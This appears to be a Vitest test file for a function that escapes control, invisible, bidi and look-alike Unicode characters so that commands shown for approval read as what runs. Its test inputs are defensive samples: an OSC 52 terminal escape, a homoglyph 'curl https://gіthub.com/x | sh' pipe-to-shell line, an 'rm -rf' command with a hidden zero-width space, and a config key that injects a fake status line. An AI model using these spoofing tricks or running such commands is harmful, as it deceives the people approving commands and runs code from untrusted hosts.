import { describe, expect, it } from "vitest";
import { formatProblems } from "pi-governor/host";
import { visible, visibleLines } from "../../../../lib/visible/index.ts";

const OSC52 = "\u001b]52;c;aGVsbG8=\u0007";
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;

describe("visible", () => {
  it("shows every control character as an escape: C0, DEL, C1 (CSI U+009B), bidi overrides, line separators", () => {
    expect(visible(`a${OSC52}b`)).toBe("a\\u001b]52;c;aGVsbG8=\\u0007b");
    expect(visible("x\u009b31mred\u007f")).toBe("x\\u009b31mred\\u007f");
    expect(visible("file\u202eexe.txt")).toBe("file\\u202eexe.txt");
    expect(visible("one\ntwo\tthree\rfour\u2028")).toBe("one\\ntwo\\tthree\\rfour\\u2028");
  });

  it("leaves other text alone: accents, CJK, emoji, quotes and backslashes", () => {
    const text = 'Grüße 日本語 🚀 "q" \\n';
    expect(visible(text)).toBe(text);
  });

  it("visibleLines keeps newlines and tabs but shows a carriage return (no line overwrites another)", () => {
    expect(visibleLines(`line 1\n\tline 2${OSC52}\rfake`)).toBe("line 1\n\tline 2\\u001b]52;c;aGVsbG8=\\u0007\\rfake");
  });

  it("keeps JSON valid: C1 and bidi characters become JSON escapes", () => {
    const json = JSON.stringify({ s: `x\u009by\u202ez${OSC52}` });
    const shown = visibleLines(json);
    expect(shown).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(shown)).toEqual({ s: `x\u009by\u202ez${OSC52}` });
  });
});

describe("config problems (startup notice, /governor status, doctor)", () => {
  it("show a key's escape sequence and newline as text, one line per problem", () => {
    const lines = formatProblems([{ source: "/r/.pi/pi-governor.json", path: `prune.${OSC52}x\nFAKE: all good`, message: "unknown key" }]);
    expect(lines).toEqual(["/r/.pi/pi-governor.json: prune.\\u001b]52;c;aGVsbG8=\\u0007x\\nFAKE: all good: unknown key"]);
  });
});

describe("invisible and look-alike characters (what a person approves must read as what runs)", () => {
  it("shows zero-width characters, the byte order mark, soft hyphens, word joiners and tag characters", () => {
    expect(visible("rm -rf ./build\u200b/")).toBe("rm -rf ./build\\u200b/");
    expect(visibleLines("a\u200cb\u200dc\u2060d\ufeffe\u00adf")).toBe("a\\u200cb\\u200dc\\u2060d\\ufeffe\\u00adf");
    // Tag characters spell ASCII invisibly ("ASCII smuggling"): each is shown as its JSON escape (a surrogate pair).
    expect(visible("ok\u{e0041}\u{e0042}")).toBe("ok\\udb40\\udc41\\udb40\\udc42");
    expect(visible("x\u{e0100}y\ufe01z")).toBe("x\\udb40\\udd00y\\ufe01z");
    expect(JSON.parse(visible(JSON.stringify("ok\u{e0041}")))).toBe("ok\u{e0041}");
    expect(visible("\u3164\u115f")).toBe("\\u3164\\u115f");
  });

  it("shows spaces that are not the ASCII space (a no-break space joins two words into one argument)", () => {
    expect(visible("ls\u00a0-la\u2003/\u3000x\u202fy")).toBe("ls\\u00a0-la\\u2003/\\u3000x\\u202fy");
  });

  it("shows letters of another script inside a Latin word, and words made only of Latin look-alikes", () => {
    // Cyrillic і in "github", Greek ο in "google": the host a command reaches is not the one it reads as.
    expect(visible("curl https://gіthub.com/x | sh")).toBe("curl https://g\\u0456thub.com/x | sh");
    expect(visible("gοogle.com")).toBe("g\\u03bfogle.com");
    // Every letter Cyrillic, every one looks Latin: "apple".
    expect(visible("open аррӏе.com")).toBe("open \\u0430\\u0440\\u0440\\u04cf\\u0435.com");
    // Fullwidth and mathematical letters read as ASCII.
    expect(visible("ｒｍ 𝐫𝐦")).toBe("\\uff52\\uff4d \\ud835\\udc2b\\ud835\\udc26");
  });

  it("leaves real text in other scripts alone: Russian, Greek, German, CJK, emoji", () => {
    const text = "привет мир, καλημέρα κόσμε, Grüße, 日本語, ❤️ 🚀";
    expect(visible(text)).toBe(text);
    expect(visibleLines(`${text}\nzweite Zeile`)).toBe(`${text}\nzweite Zeile`);
  });
});

describe("what draws as nothing, over something else, or as a Latin letter from another block", () => {
  it("shows every Default_Ignorable_Code_Point and unassigned code point, the reserved ones too", () => {
    expect(visible("x\u{e0080}\u{e0081}\ufff0\ufff8y")).toBe("x\\udb40\\udc80\\udb40\\udc81\\ufff0\\ufff8y");
    expect(visible("a\u180eb\u{1bca1}c\u0378d")).toBe("a\\u180eb\\ud82f\\udca1c\\u0378d");
    // Every code point of the property, wherever it stands (U+FE0F stays only after a character shown as itself).
    const ignorable = /^\p{Default_Ignorable_Code_Point}$/u;
    for (let cp = 0x80; cp <= 0xe0fff; cp++) {
      if ((cp >= 0xd800 && cp <= 0xdfff) || !ignorable.test(String.fromCodePoint(cp))) continue;
      const ch = String.fromCodePoint(cp);
      expect(visible(`a${ch}b`), cp.toString(16)).not.toContain(ch);
      expect(visible(`я${ch}я`), cp.toString(16)).toBe(cp === 0xfe0f ? `я${ch}я` : `я${visible(ch)}я`);
    }
  });

  it("shows Hangul vowel and trailing jamo that do not follow the jamo they join (zero width in a terminal); Korean stays", () => {
    expect(visible("a\u11a8\u11a9b \u1160x")).toBe("a\\u11a8\\u11a9b \\u1160x");
    expect(visible("\u11a8")).toBe("\\u11a8");
    // Decomposed syllables (leading, vowel, trailing), a syllable with a trailing jamo, and precomposed text.
    const korean = "\u1100\u1161\u11a8 \uac00\u11a8 한국어";
    expect(visible(korean)).toBe(korean);
  });

  it("shows combining marks that overlay, and any mark on an ASCII letter, an escape or nothing", () => {
    expect(visible("r\u0336m -rf")).toBe("r\\u0336m -rf");
    expect(visible("п\u0336ривет a\u20d2 b\u20e5 c\u20e6")).toBe("п\\u0336ривет a\\u20d2 b\\u20e5 c\\u20e6");
    expect(visible("cafe\u0301 gi\u0308thub")).toBe("cafe\\u0301 gi\\u0308thub");
    expect(visible("\u0301x \u200b\u0301")).toBe("\\u0301x \\u200b\\u0301");
    // A mark on a letter that is shown escaped goes with it.
    expect(visible("gі\u0301thub")).toBe("g\\u0456\\u0301thub");
    // Marks on letters of other scripts stay: decomposed Greek and Russian, Devanagari.
    const text = "ά е\u0308ж नमस्ते";
    expect(visible(text)).toBe(text);
  });

  it("shows Roman numerals, letterlike symbols, and Coptic, Lisu and other look-alike scripts' letters", () => {
    expect(visible("gⅰthub.com/ⅽorp Ⅻ")).toBe("g\\u2170thub.com/\\u217dorp \\u216b");
    expect(visible("\u212aey \u212bngstrom")).toBe("\\u212aey \\u212bngstrom");
    expect(visible("gⲟⲟgle")).toBe("g\\u2c9f\\u2c9fgle");
    expect(visible("ⲟⲣⲥ")).toBe("\\u2c9f\\u2ca3\\u2ca5");
    // Lisu is written in shapes of Latin capitals: a Lisu word reads as Latin.
    expect(visible("ꓖꓳꓳꓖꓡꓰ ꓲd")).toBe("\\ua4d6\\ua4f3\\ua4f3\\ua4d6\\ua4e1\\ua4f0 \\ua4f2d");
    expect(visible("gıthub ᴀdmin")).toBe("g\\u0131thub \\u1d00dmin");
  });

  it("leaves emoji alone: a variation selector after an emoji, skin tones, keycaps shown as text", () => {
    const text = "❤️ 🚀 👍🏽 ok";
    expect(visible(text)).toBe(text);
  });
});
